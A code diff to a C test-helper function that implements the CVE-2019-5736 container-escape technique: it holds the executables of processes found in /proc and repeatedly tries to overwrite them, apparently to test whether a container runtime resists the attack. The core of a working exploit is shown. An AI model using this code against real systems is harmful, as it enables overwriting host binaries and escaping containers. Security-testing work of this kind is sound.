@@ -189,14 +189,14 @@ static int overwrite(int held)
 
 /*
  * exe-attack FILE: hold on to the executable of every process that appears in /proc, and try to overwrite it
- * until FILE is there (CVE-2019-5736).
+ * until FILE is there (CVE-2019-5736).  Says when it has the first.
  */
 int verb_exe_attack(int argc, char **argv)
 {
 	static struct {
 		dev_t dev;
 		ino_t ino;
-		int fd;
+		int fd, won;
 	} seen[512];
 	int count = 0, mine = getpid();
 	struct stat self = {0};
@@ -209,10 +209,6 @@ int verb_exe_attack(int argc, char **argv)
 	j_kbool("ready", 1);
 	j_close('}');
 	j_line_end();
-	j_open('{');
-	j_kstr("verb", "exe-attack");
-	j_key("won");
-	j_open('[');
 	while (access(argv[1], F_OK) < 0) {
 		DIR *proc = opendir("/proc");
 		struct dirent *entry;
@@ -238,24 +234,36 @@ int verb_exe_attack(int argc, char **argv)
 			seen[count].dev = st.st_dev;
 			seen[count].ino = st.st_ino;
 			seen[count++].fd = fd;
+			if (count == 1) {
+				j_open('{');
+				j_kstr("verb", "exe-attack");
+				j_kint("seen", count);
+				j_close('}');
+				j_line_end();
+			}
 		}
 		if (proc)
 			closedir(proc);
-		for (int i = 0; i < count; i++) {
-			char path[64], target[512] = "";
+		for (int i = 0; i < count; i++)
+			if (!seen[i].won)
+				seen[i].won = overwrite(seen[i].fd);
+	}
+	j_open('{');
+	j_kstr("verb", "exe-attack");
+	j_key("won");
+	j_open('[');
+	for (int i = 0; i < count; i++) {
+		char path[64], target[512] = "";
 
-			if (seen[i].fd < 0 || !overwrite(seen[i].fd))
-				continue;
-			snprintf(path, sizeof(path), "/proc/self/fd/%d", seen[i].fd);
-			if (readlink(path, target, sizeof(target) - 1) < 0)
-				target[0] = 0;
-			j_open('{');
-			j_kstr("file", target);
-			j_kuint("ino", seen[i].ino);
-			j_close('}');
-			close(seen[i].fd);
-			seen[i].fd = -1;
-		}
+		if (!seen[i].won)
+			continue;
+		snprintf(path, sizeof(path), "/proc/self/fd/%d", seen[i].fd);
+		if (readlink(path, target, sizeof(target) - 1) < 0)
+			target[0] = 0;
+		j_open('{');
+		j_kstr("file", target);
+		j_kuint("ino", seen[i].ino);
+		j_close('}');
 	}
 	j_close(']');
 	j_kint("seen", count);
